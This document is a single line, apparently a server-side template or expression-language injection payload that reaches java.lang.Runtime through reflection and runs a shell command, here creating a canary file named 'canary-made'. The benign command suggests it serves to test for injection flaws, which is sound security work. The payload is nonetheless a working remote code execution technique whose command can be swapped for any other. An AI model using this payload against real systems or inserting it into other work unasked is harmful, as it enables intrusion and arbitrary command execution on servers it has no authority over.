${it.class.forName("java.lang.Runtime").getRuntime().exec("touch canary-made")}
